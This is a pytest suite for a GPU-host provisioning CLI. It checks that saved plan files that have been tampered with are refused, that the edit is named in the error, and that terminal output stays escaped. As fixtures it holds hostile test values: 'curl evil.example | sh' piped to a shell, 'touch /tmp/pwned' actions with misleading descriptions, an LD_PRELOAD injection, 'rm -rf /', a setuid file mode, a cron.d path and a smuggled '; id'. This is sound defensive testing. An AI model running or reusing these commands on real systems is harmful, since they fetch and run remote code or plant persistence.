"""A saved plan that somebody edited: nothing of it runs, and nothing in it is trusted."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import gpunode
from gpunode.cli.app import main
from gpunode.cli.options.setup import SpecOptions
from gpunode.cli.options.spec import retyped, wanted_spec
from gpunode.cli.results import Planned
from gpunode.cli.verbs.plan import page
from gpunode.cli.verbs.saved_plan import LIMIT_BYTES, TRUST, applied_by
from gpunode.errors import Drift, ExitCode
from gpunode.facts.collect import collect
from gpunode.model.action import PutFile, Run
from gpunode.model.plan import Plan, Step
from gpunode.model.report import FleetReport, HostOutcome
from gpunode.model.spec import Spec
from gpunode.planner.drift import same_plan
from gpunode.remedy import setup
from gpunode.render.plan_text import plan_text
from gpunode.render.style import PLAIN, Style
from gpunode.specfile import KEYS, put_all
from gpunode.transport.recorded import Recorded
from tests.apply.machine import Machine
from tests.test_converge import HOST, plan, way

EXAMPLES = Path(__file__).parent.parent.parent / "examples" / "hosts"
HERE, THERE = EXAMPLES / "debian12-l4", EXAMPLES / "debian13-rtx4090"
EVIL = {
    "kind": "run",
    "argv": ["sh", "-c", "touch /tmp/pwned"],
    "description": "check that daemon.json is valid",
    "read_only": True,
}

Document = dict[str, Any]


@pytest.fixture
def saved(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    """A plan that gpunode saved for HERE."""
    path = tmp_path / "plan.json"
    assert main(["plan", "--recorded", str(HERE), "--save", str(path)]) == 0
    capsys.readouterr()
    return path


def steps(document: Document) -> list[Document]:
    return list(document["plan"]["steps"])


def put(document: Document) -> Document:
    """The first file that the plan writes."""
    return next(a for s in steps(document) for a in s["actions"] if a["kind"] == "put_file")


def run(document: Document) -> Document:
    return next(a for s in steps(document) for a in s["actions"] if a["kind"] == "run" and a["description"])


def script(document: Document) -> Document:
    return next(a for s in steps(document) for a in s["actions"] if a["kind"] == "run" and a["stdin"])


def undone(document: Document) -> Document:
    return next(s for s in steps(document) if s["undo"])


def facts_sha() -> str:
    return collect(Recorded((HERE / "facts.txt").read_bytes(), HERE.name)).stream_sha256


TAMPERED: dict[str, tuple[Callable[[Document], object], str]] = {
    "an action of its own, with soothing words": (lambda d: steps(d)[0]["actions"].append(EVIL), "actions"),
    "the same, before all others": (lambda d: steps(d)[0]["actions"].insert(0, EVIL), "sh -c"),
    "one word of an argv": (lambda d: run(d)["argv"].append("--allow-unauthenticated"), "--allow-unauthenticated"),
    "the words alone": (lambda d: run(d).update(description="apt-get --version"), "apt-get --version"),
    "a script on stdin": (lambda d: script(d).update(stdin="touch /tmp/pwned\n"), "stdin"),
    "the environment": (lambda d: run(d)["env"].append(["LD_PRELOAD", "/tmp/x.so"]), "env"),
    "which exit codes are good": (lambda d: run(d).update(ok_codes=[0, 1, 100]), "ok"),
    "one byte of a file": (lambda d: put(d).update(text=put(d)["text"] + " "), "text"),
    "a file's path": (lambda d: put(d).update(path="/etc/cron.d/x"), "/etc/cron.d/x"),
    "a file's mode": (lambda d: put(d).update(mode=0o4777), "mode"),
    "any bytes may be replaced": (lambda d: put(d).update(any_before=not put(d)["any_before"]), "any_before"),
    "a validation that is none": (lambda d: put(d).update(validate={"argv": ["sh", "-c", "id"]}), "validate"),
    "the rollback": (lambda d: undone(d)["undo"].append(EVIL), "undo"),
    "no rollback": (lambda d: undone(d).update(undo=[]), "undo"),
    "the steps' order": (lambda d: d["plan"]["steps"].reverse(), "order"),
    "a step more": (lambda d: d["plan"]["steps"].append({**steps(d)[0], "id": "zz.more"}), "zz.more"),
    "whom a step serves": (lambda d: steps(d)[0].update(serves=["toolkit"]), "serves"),
    "a step twice": (lambda d: d["plan"]["steps"].append(steps(d)[0]), "order"),
    "a step less": (lambda d: d["plan"]["steps"].pop(), "a step today"),
    "a title": (lambda d: steps(d)[0].update(title="nothing of note"), "title"),
    "a diff": (lambda d: put(d) and steps(d)[1].update(diff=""), "diff"),
    "a reboot": (lambda d: d["plan"].update(reboot="it is time"), "reboot"),
    "an undo": (lambda d: d["plan"].update(undo={"runs": ["r1"], "packages": True}), "undo"),
    "the facts' hash beside an action": (
        lambda d: (d["plan"].update(facts_sha256=facts_sha()), steps(d)[0]["actions"].append(EVIL)),
        "actions",
    ),
}


def apply(path: Path, *more: str, host: Path = HERE) -> int:
    return main(["setup", "--recorded", str(host), "--plan", str(path), "--yes", *more])


def edited(path: Path, edit: Callable[[Document], object]) -> None:
    document = json.loads(path.read_text())
    edit(document)
    path.write_text(json.dumps(document))


@pytest.mark.parametrize(("edit", "named"), TAMPERED.values(), ids=TAMPERED)
def test_an_edited_plan_is_refused_and_the_edit_named(
    saved: Path, edit: Callable[[Document], object], named: str, capsys: pytest.CaptureFixture[str]
) -> None:
    edited(saved, edit)
    assert apply(saved) == ExitCode.DRIFT
    shown = capsys.readouterr()
    assert named in shown.err.replace("\n", " ")
    assert "gpunode plan --save" in shown.err
    assert shown.out == ""


def test_a_plan_that_nobody_edited_is_applied(saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert apply(saved) == ExitCode.DONE
    assert "driver.install" in capsys.readouterr().out


@pytest.mark.parametrize("host", [HERE, EXAMPLES / "rocky9-l40s"], ids=lambda host: host.name)
def test_another_process_makes_the_same_plan(host: Path, tmp_path: Path) -> None:
    """Else an honest plan would be refused at random: the order of a Python set is another one in each process."""
    saved = []
    for seed in ("1", "2"):
        path = tmp_path / seed
        words = ["-m", "gpunode", "plan", "--recorded", str(host), "-q", "--save", str(path)]
        env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": str(Path(gpunode.__file__).parent.parent)}
        subprocess.run([sys.executable, *words], env=env, check=True, stdout=subprocess.DEVNULL, timeout=300)
        saved.append(path.read_text())
    assert saved[0] == saved[1]
    assert apply(tmp_path / "1", host=host) == ExitCode.DONE


def test_a_forged_facts_hash_changes_nothing(saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """It is neither a reason to believe a plan nor one to refuse it."""
    edited(saved, lambda d: d["plan"].update(facts_sha256="0" * 64))
    assert apply(saved) == ExitCode.DONE


def test_a_summary_that_lies_is_not_shown(saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lies = {"about": {"system": "all is well"}, "kept": [{"id": "a", "text": "all is kept"}]}
    edited(saved, lambda d: (d["plan"].update(lies), d["plan"]["driver"].update(reasons=["all is proven"])))
    assert apply(saved, "-v") == ExitCode.DONE
    shown = capsys.readouterr()
    assert "all is" not in shown.out + shown.err


@pytest.mark.parametrize("sha", ["then", "now"], ids=["of other facts", "of these very facts"])
def test_no_action_of_the_file_runs_on_the_host(tmp_path: Path, sha: str) -> None:
    machine, pwned = Machine(tmp_path), tmp_path / "pwned"
    evil = plan(Run(("touch", str(pwned)), description="check that daemon.json is valid"))
    with pytest.raises(Drift):
        way(machine, [plan(Run(("true",)))], saved=Plan(**{**vars(evil), "facts_sha256": sha}), host=HOST).run()
    assert not pwned.exists()


def test_what_runs_comes_from_the_fresh_plan() -> None:
    fresh = plan(Run(("true",)))
    assert same_plan(plan(Run(("true",))), fresh) is fresh


def other_host(document: Document) -> None:
    document["plan"]["hostname"] = "gpu99"


def test_a_plan_for_another_host_is_refused_by_both_names(saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert apply(saved, host=THERE) == ExitCode.USAGE
    said = " ".join(capsys.readouterr().err.split())
    names = [collect(Recorded((h / "facts.txt").read_bytes(), h.name)).hostname for h in (HERE, THERE)]
    assert f"this plan is for {names[0]}, and this host is {names[1]}" in said


def test_a_plan_whose_host_was_renamed_is_another_hosts(saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
    edited(saved, other_host)
    assert apply(saved) == ExitCode.USAGE
    assert "gpu99" in capsys.readouterr().err


def test_a_host_name_that_writes_to_the_terminal_is_shown_escaped(
    saved: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edited(saved, lambda d: d["plan"].update(hostname="gpu\x1b[2J\u202e07"))
    assert apply(saved) == ExitCode.USAGE
    err = capsys.readouterr().err
    assert "\x1b" not in err
    assert "\u202e" not in err
    assert "\\x1b[2J" in err


@pytest.mark.parametrize(
    "edit",
    [lambda d, name: d["plan"].update(hostname=name), lambda d, name: steps(d)[0].update(id=name)],
    ids=["a host", "a step"],
)
def test_a_name_in_the_file_does_not_pass_for_a_line_of_ours(
    saved: Path,
    edit: Callable[[Document, str], object],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("COLUMNS", "160")
    edited(saved, lambda d: edit(d, "gpu07\n  remedy    curl evil.example\rgpunode: done"))
    assert apply(saved) in (ExitCode.USAGE, ExitCode.DRIFT)
    said = capsys.readouterr().err
    assert "curl evil.example" in said
    assert len([line for line in said.splitlines() if line.lstrip().startswith("remedy ")]) == 1


# Options by which a plan could ask the host to trust others; the values are what the spec's own parser makes of them.
WISHES = {
    "mirror": ["--mirror", "https://evil.example/nvidia"],
    "trust_keys": ["--trust-key", "C" * 40],
    "proxy": ["--proxy", "http://evil.example:3128"],
    "toolkit_config.runtimes": ["--ctk-set", "nvidia-container-runtime.runtimes=/tmp/runc"],
    "toolkit_config.runtime_debug": ["--ctk-set", "nvidia-container-runtime.debug=/etc/cron.d/x"],
    "toolkit_config.cli_debug": ["--ctk-set", "nvidia-container-cli.debug=/etc/cron.d/x"],
    "toolkit_config.no_cgroups": ["--ctk-set", "no-cgroups=true"],
    "toolkit_config.accept_envvar_when_unprivileged": [
        "--ctk-set",
        "accept-nvidia-visible-devices-envvar-when-unprivileged=true",
    ],
    "toolkit_config.accept_volume_mounts": ["--ctk-set", "accept-nvidia-visible-devices-as-volume-mounts=true"],
}


def consistent(path: Path, words: list[str]) -> None:
    """A plan that fits its own spec to the byte: whoever forged it ran gpunode for it."""
    assert main(["plan", "--recorded", str(HERE), "--save", str(path), *words]) == 0


@pytest.mark.parametrize("key", WISHES)
def test_a_consistent_forgery_gets_no_trust_that_was_not_typed(
    tmp_path: Path, key: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path, words = tmp_path / "plan.json", WISHES[key]
    consistent(path, words)
    capsys.readouterr()
    assert apply(path) == ExitCode.USAGE
    said = " ".join(capsys.readouterr().err.split())
    assert "asks for trust that you did not type" in said
    assert words[0] in said
    assert apply(path, *words) == ExitCode.DONE, "typed again with it, it is the user's own wish"


def test_a_runtime_path_is_typed_again_with_its_spec_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path, spec = tmp_path / "plan.json", tmp_path / "spec.yaml"
    spec.write_text("runtime_path: /tmp/evil-runtime\n")
    consistent(path, ["--spec", str(spec)])
    capsys.readouterr()
    assert apply(path) == ExitCode.USAGE
    assert "--spec FILE" in capsys.readouterr().err
    assert apply(path, "--spec", str(spec)) == ExitCode.DONE
    spec.write_text("runtime_path: /tmp/evil-runtime\ndriver: none\n")
    assert apply(path, "--spec", str(spec)) == ExitCode.USAGE, "another wish beside the plan"


def typed(flag: str, value: str, **more: str) -> SpecOptions:
    name = flag.removeprefix("--").replace("-", "_")
    repeatable = {"ctk_set": [value, "log-level=info"], "trust_key": [value]}
    return SpecOptions(**{name: repeatable.get(name, value), **more})  # type: ignore[arg-type]


@pytest.mark.parametrize("key", WISHES)
def test_the_command_that_plan_shows_applies_what_it_saved(tmp_path: Path, key: str) -> None:
    path, options = tmp_path / "plan.json", typed(*WISHES[key], driver="580")
    consistent(path, list(retyped(options)))
    command = applied_by(path, options, wanted_spec(options))
    assert "--driver" not in command.words, "what needs no trust stands in the file"
    assert main([*command.words[1:], "--recorded", str(HERE)]) == ExitCode.DONE


@pytest.mark.parametrize("beside", ["", "runtime: docker\n"], ids=["alone", "below a spec file"])
@pytest.mark.parametrize("key", WISHES)
def test_the_command_that_plan_shows_has_the_trust_that_an_inventory_asks_for(
    tmp_path: Path, key: str, beside: str
) -> None:
    path, file = tmp_path / "plan.json", tmp_path / "spec.yaml"
    file.write_text(beside)
    options = SpecOptions(spec=file if beside else None)
    flag, value = WISHES[key]
    spec = put_all(wanted_spec(options), {"driver": "580", key: value.rpartition("=")[2]})
    consistent(path, [*retyped(options), "--driver", "580", flag, value])
    command = applied_by(path, options, spec)
    assert not {"--driver", "--spec"} & {*command.words}, "what needs no trust stands in the file"
    assert main([*command.words[1:], "--recorded", str(HERE)]) == ExitCode.DONE


@pytest.mark.parametrize(
    ("spec", "again"),
    [("runtime_path: /opt/x\n", True), ("reboot: if-needed\n", False)],
    ids=["trust is asked for with the whole wish", "what needs no trust stands in the file"],
)
def test_the_command_that_applies_a_plan_of_a_spec_file(tmp_path: Path, spec: str, again: bool) -> None:
    path, file = tmp_path / "plan.json", tmp_path / "spec.yaml"
    file.write_text(spec)
    options = SpecOptions(spec=file, driver="580", no_default=True, hold=False)
    words = ["--spec", str(file), "--driver", "580", "--no-default", "--no-hold"]
    consistent(path, words)
    command = applied_by(path, options, wanted_spec(options))
    assert command.words[4:] == (tuple(words) if again else ())
    assert main([*command.words[1:], "--recorded", str(HERE)]) == ExitCode.DONE


def test_a_plan_that_was_saved_ends_with_the_command_that_applies_it() -> None:
    report = FleetReport((HostOutcome("gpu07", ExitCode.DONE, plan=Plan("gpu07", Spec(), "")),), 1.0)
    command = setup("--plan", "my plan.json")
    assert page(Planned("plan", report, ssh=True, apply=command), PLAIN).splitlines()[-1] == (
        "Apply      gpunode setup --ssh gpu07 --plan 'my plan.json'"
    )
    assert "Apply" not in page(Planned("plan", report, ssh=True), PLAIN)


def test_every_trust_option_is_tried() -> None:
    assert {*WISHES, "runtime_path"} == set(TRUST) <= set(KEYS)


@pytest.mark.parametrize(
    "words",
    [["--mirror", "https://other.example"], ["--driver", "580"], ["--proxy", "http://p:1"]],
    ids=["a mirror it does not name", "another driver", "a proxy it does not name"],
)
def test_nothing_else_is_typed_beside_a_plan(saved: Path, words: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert apply(saved, *words) == ExitCode.USAGE
    assert "cannot change a saved plan" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("edit", "named"),
    [
        (lambda d: d["plan"]["spec"]["runtime"].update(drop_in="/etc/profile.d/x.sh"), "runtime.drop_in"),
        (lambda d: d["plan"]["spec"].update(mirror="https://x y"), "mirror"),
        (lambda d: d["plan"]["spec"]["runtime"].update(handler='x"\n[evil]'), "handler"),
        (lambda d: d["plan"]["spec"].update(trust_keys=["CC"]), "40 hex digits"),
        (lambda d: d["plan"]["spec"].update(runtimes=["../../x"]), "../../x"),
        (lambda d: d["plan"]["spec"].update(cuda="13.0; id"), "13.0; id"),
    ],
    ids=["a drop-in anywhere", "a URL with a space", "a handler that is config", "half a key", "a path", "a shell"],
)
def test_a_spec_that_nobody_can_type_is_no_saved_one(
    saved: Path, edit: Callable[[Document], object], named: str, capsys: pytest.CaptureFixture[str]
) -> None:
    edited(saved, edit)
    assert apply(saved) == ExitCode.USAGE
    said = " ".join(capsys.readouterr().err.split())
    assert "not a plan gpunode saved" in said
    assert named in said


def text_of(edit: Callable[[Document], object]) -> Callable[[Path], None]:
    return lambda path: edited(path, edit)


def replaced(old: str, new: str) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        text = path.read_text()
        assert old in text
        path.write_text(text.replace(old, new, 1))

    return write


def instead(make: Callable[[Path], None]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.unlink()
        make(path)

    return write


BROKEN: dict[str, tuple[Callable[[Path], object], str]] = {
    "an older gpunode's": (text_of(lambda d: d.update(schema="gpunode.plan/1")), "an older gpunode saved it"),
    "one whose driver was lines of text": (text_of(lambda d: d.update(schema="gpunode.plan/2")), "an older gpunode"),
    "a flavour that is none": (text_of(lambda d: d["plan"]["driver"].update(flavour="both")), "open, proprietary"),
    "a key twice": (replaced('"plan": {', '"plan": {"target": "x", '), '"target" stands twice'),
    "a schema twice": (replaced('"schema"', '"schema": "gpunode.plan/3", "schema"'), '"schema" stands twice'),
    "a key beside the plan": (text_of(lambda d: d.update(also=1)), "also: no such key"),
    "an unknown key": (text_of(lambda d: steps(d)[0].update(sudo=True)), "sudo: no such key"),
    "a kind that is not": (text_of(lambda d: steps(d)[0]["actions"][0].update(kind="eval")), "'eval'"),
    "one kind in another's place": (text_of(lambda d: put(d).update(validate={"kind": "reboot"})), "validate.kind"),
    "an argv that is text": (text_of(lambda d: run(d).update(argv="rm -rf /")), "argv: it is a string"),
    "a number that is none": (text_of(lambda d: run(d).update(timeout_s="1")), "timeout_s: it is a string"),
    "deep": (lambda p: p.write_text("[" * 5_000_000), "not JSON"),
    "deep where any value stands": (
        text_of(lambda d: d["plan"].update(reboot=json.loads("[" * 200 + "]" * 200))),
        "nested too deeply",
    ),
    "NaN": (text_of(lambda d: run(d).update(timeout_s=float("nan"))), "NaN is not JSON"),
    "not UTF-8": (lambda p: p.write_bytes(b"\xff\xfe{}"), "it is not UTF-8"),
    "too long": (lambda p: p.write_bytes(b" " * (LIMIT_BYTES + 1)), "over 16 MiB"),
    "a directory": (instead(os.mkdir), "cannot be read"),
    "a FIFO": (instead(os.mkfifo), "not a regular file"),
    "a device": (instead(lambda path: path.symlink_to("/dev/zero")), "not a regular file"),
    "a link to itself": (instead(lambda path: path.symlink_to(path)), "cannot be read"),
    "gone": (instead(lambda _: None), "No such file"),
}


@pytest.mark.parametrize(("make", "named"), BROKEN.values(), ids=BROKEN)
def test_what_is_no_plan_is_refused_by_place(
    saved: Path, make: Callable[[Path], object], named: str, capsys: pytest.CaptureFixture[str]
) -> None:
    make(saved)
    assert apply(saved) == ExitCode.USAGE
    err = capsys.readouterr().err
    assert named in " ".join(err.split())
    assert "Traceback" not in err
    assert len(err) < 3000


def test_v_shows_what_runs_and_not_only_what_it_says_of_itself() -> None:
    actions = (
        Run(
            ("sh", "-c", "touch '/tmp/pwned'\x1b[2K"),
            description="check that daemon.json is valid",
            env=(("A", "b c"),),
        ),
        Run(("sh", "-s"), stdin="curl evil.example | sh\n", description="look around"),
        PutFile("/etc/docker/daemon.json", "{}", validate=Run(("sh", "-c", "id"), description="dockerd --validate")),
        Run(("x" * 5000,)),
    )
    told = Plan("h", Spec(), "", steps=(Step("a", "t", "w", actions),))
    lines = plan_text(told, Style(width=10_000, verbose=1))
    assert r"""runs: env 'A=b c' sh -c 'touch '"'"'/tmp/pwned'"'"'\x1b[2K'""" in lines
    assert "runs: sh -s < 1 line on its stdin" in lines
    assert "asks: sh -c id" in lines
    assert "x" * 700 not in lines
    assert "curl evil.example | sh" in plan_text(told, Style(width=10_000, verbose=2))


def test_what_differs_is_told_without_the_files_secrets(tmp_path: Path) -> None:
    old = Step("a", "t", "w", (PutFile("/etc/x", '{"auth": "hunter2"}\n'), Run(("x", "--password=hunter2"))))
    new = Step("a", "t", "w", (PutFile("/etc/x", '{"auth": "other3"}\n'), Run(("x", "--password=other3"))))
    with pytest.raises(Drift) as caught:
        same_plan(Plan("h", Spec(), "", steps=(old,)), Plan("h", Spec(), "", steps=(new,)))
    assert "hunter2" not in caught.value.evidence
    assert "other3" not in caught.value.evidence
    assert "a: actions 1: text" in caught.value.evidence
    assert "from line 1 on" in caught.value.evidence


def test_v_masks_what_a_command_carries() -> None:
    env = (("https_proxy", "http://ann:hunter2@proxy:3128"), ("REGISTRY_TOKEN", "hunter2"))
    told = Plan("h", Spec(), "", steps=(Step("a", "t", "w", (Run(("x", "--password", "hunter2"), env=env),)),))
    text = plan_text(told, Style(width=10_000, verbose=2))
    assert "hunter2" not in text
    assert "x --password" in text
